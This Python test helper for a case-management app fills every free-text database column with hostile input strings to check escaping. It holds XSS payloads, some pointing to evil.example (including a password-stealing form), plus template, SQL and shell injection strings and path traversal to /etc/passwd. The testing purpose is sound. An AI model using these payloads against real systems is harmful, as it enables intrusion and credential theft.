"""Words that try to be more than words, and a caseload in which everything that a person can type is made of them."""

import itertools
import re
from collections.abc import Callable
from typing import Any
from uuid import UUID

import sqlalchemy as sa
from sqlmodel import Session, SQLModel

import porchlight.tables  # noqa: F401  every table is known after it

# How markup around a value may be left: an attribute, an element that takes text only, a comment, a script.
WAYS_OUT = [
    *("", '">', "'>", '" ', "' ", "` ", "-->", "]]>", "</title>", "</textarea>", "</style>", "</script>", "</option></select>"),
    *("</template>", "</noscript>", "<!--><", "\t>", "\x0b>", "\x0c/>", "</svg>", "</math>", "\u2028", "&gt;", "%22%3E"),
]  # fmt: skip
# What is then tried. `boom` must never be called, `evil.example` never be asked.
TRIES = [
    "<img src=x onerror=boom()>", "<svg onload=boom()>", "<script>boom()</script>", "<script src=//evil.example/x.js></script>",
    "<iframe srcdoc='<script>parent.boom()</script>'></iframe>", "<a href=javascript:boom() id=htmx name=config>go</a>",
    "<form action=//evil.example/steal><input name=password></form>", "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>", "<object data=//evil.example/x></object>",
    "<embed src=//evil.example/x>", "<link rel=stylesheet href=//evil.example/x.css>", "<style>*{background:url(//evil.example/x)}</style>",
    "<div hx-get=/sign-out hx-trigger=load>", "<div hx-post=//evil.example/ hx-trigger=load>", "<div hx-swap-oob=true id=main>gone</div>",
    "<hx-partial hx-target=body>gone</hx-partial>", "<template><p>x</p></template>", "<math><mtext><img src=x onerror=boom()></mtext></math>",
    "<video><source onerror=boom()></video>", "<details open ontoggle=boom()>", "<input autofocus onfocus=boom()>",
    "<body onload=boom()>", "<x data-js=phone/phone>", "<button formaction=//evil.example/>x</button>",
]  # fmt: skip
# Those that need no markup: templates, addresses, entities, directions, widths, things that look like ours.
PLAIN = [
    "{{7*7}}", "{% for x in ().__class__.__base__.__subclasses__() %}{{x}}{% endfor %}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "{{constructor.constructor('boom()')()}}",
    "javascript:boom()", "JaVaScRiPt:boom()", "java\tscript:boom()", "data:text/html,<script>boom()</script>", "vbscript:boom()",
    "//evil.example", "\\\\evil.example", "https://evil.example/%s", "/\\evil.example", "?next=//evil.example",
    "&lt;script&gt;boom()&lt;/script&gt;", "&#60;script&#62;boom()", "&amp;lt;b&amp;gt;", "%3Cscript%3Eboom()%3C/script%3E", "\\u003cscript\\u003eboom()",
    "\uff1cscript\uff1eboom()\uff1c/script\uff1e", "\u202egnp.exe", "\u2066\u2067", "\u200b\u200d", "Z\u0351\u0302\u0308a\u0327\u0315lgo", "\ufeffx",
    "'; DROP TABLE cases; --", "' OR '1'='1", "\" OR \"\"=\"", "1); SELECT pg_sleep(9); --", "*)(uid=*", "%s%n%d", "%(name)s", "{0.__class__}", "$(reboot)", "`reboot`",
    "| reboot", "; reboot", "../../../../etc/passwd", "..\\..\\windows\\win.ini", "file:///etc/passwd", "=1+1", "+1+1", "@SUM(1)", "-2+3",
    "true", "null", "undefined", "NaN", "None", "[object Object]", "__proto__", "constructor", "0", "-1", "1e309", "\u0130stanbul", "\u00df", "\U0001f9d1\u200d\U0001f9d2", "a" * 300,
]  # fmt: skip
STRINGS = [*PLAIN, *(way + each for way, each in itertools.product(WAYS_OUT, TRIES))]

# Columns of typed words, wherever they stand; what is missing here is an id, a state, a moment, a code or a hash.
TYPED = {
    *("name", "culture", "note", "observations", "came", "family_note", "place_note"),
    *("late_reason", "about", "ended_words", "words", "title", "school", "grade"),
    *("likes", "calm_down", "allergies", "medicines", "legal_status", "goal", "concurrent_goal"),
    *("first_name", "last_name", "preferred_name", "pronouns", "relation", "private_note", "not_seen_reason"),
    *("alone_reason", "child_words", "said", "clothing", "last_seen_where", "found_where", "found_how"),
    *("why_left", "while_away", "what_helps", "to_name", "label", "did", "party"),
    *("to_whom", "number", "signer_name", "how_known", "typed_name", "declined_reason", "address"),
    *("phone", "source", "program", "why"),
}
TYPED_HERE = {
    *(
        f"{table}.reason"
        for table in ("access_changes", "amendments", "held_decisions", "missing_settled", "overrides")
    ),
    *(f"{table}.reason" for table in ("seal_openings", "temporary_schedules", "swaps")),
    *("incident_versions.place", "mandated_reports.place", "check_ins.place", "team_members.role"),
}
# The same names, meaning something else: keys of rules, addresses of machines, names of jobs.
NOT_TYPED = {
    *("jobs.name", "engine_beats.name", "calendar_tries.address", "door_tries.address", "sign_in_failures.address"),
    *("passkey_challenges.address", "own_ways.address", "notices.words", "contact_rules.program", "cases.program"),
    *(
        "deposits.why",
        "opt_outs.number",
        "text_consents.number",
        "missing_episodes.source",
        "family_calls.why",
        "drills.why",
    ),
    *("incident_versions.people", "incident_told.party", "audit_events.people"),
    *("contact_children.alone_reason", "contact_children.not_seen_reason", "contacts.late_reason"),
}
# Lists and sheets of words.
SHEETS = {"agreed", "follow_ups", "sections", "alerts", "people", "detail", "topics", "systems", "params", "changes"}

Make = Callable[[], str]


def tame(words: str) -> str:
    """As long, with the same lines, and nothing in it that means anything."""
    return re.sub(r"[^\w\s]", "x", words)


def typed(table: str, column: sa.Column[Any]) -> bool:
    if isinstance(column.type, sa.Integer):
        return False
    here = f"{table}.{column.name}"
    return here in TYPED_HERE or (column.name in TYPED | SHEETS and here not in NOT_TYPED)


def leaves(value: Any, make: Make) -> Any:
    """Every sentence in a sheet is replaced; single words are keys or codes."""
    if isinstance(value, str):
        return make() if " " in value or value[:1].isupper() else value
    if isinstance(value, list):
        return [leaves(one, make) for one in value]
    if isinstance(value, dict):
        return {key: leaves(one, make) for key, one in value.items()}
    return value


def fill(session: Session, make: Make) -> int:
    """Writes what `make` gives into every typed column of every row. Returns how many values it wrote."""
    wrote = 0
    for table in SQLModel.metadata.sorted_tables:
        keys = list(table.primary_key.columns)
        columns = [c for c in table.columns if typed(table.name, c)]
        if not columns or table.name == "audit_events":
            continue
        for row in session.execute(sa.select(*keys, *columns)).all():
            old = dict(zip((c.name for c in columns), row[len(keys) :], strict=True))
            new = {name: leaves(value, make) if name in SHEETS else make() for name, value in old.items() if value}
            new = {name: value for name, value in new.items() if value != old[name] and not isinstance(value, UUID)}
            if new:
                here = sa.and_(*(key == value for key, value in zip(keys, row, strict=False)))
                session.execute(table.update().where(here).values(**new))
                wrote += len(new)
    return wrote
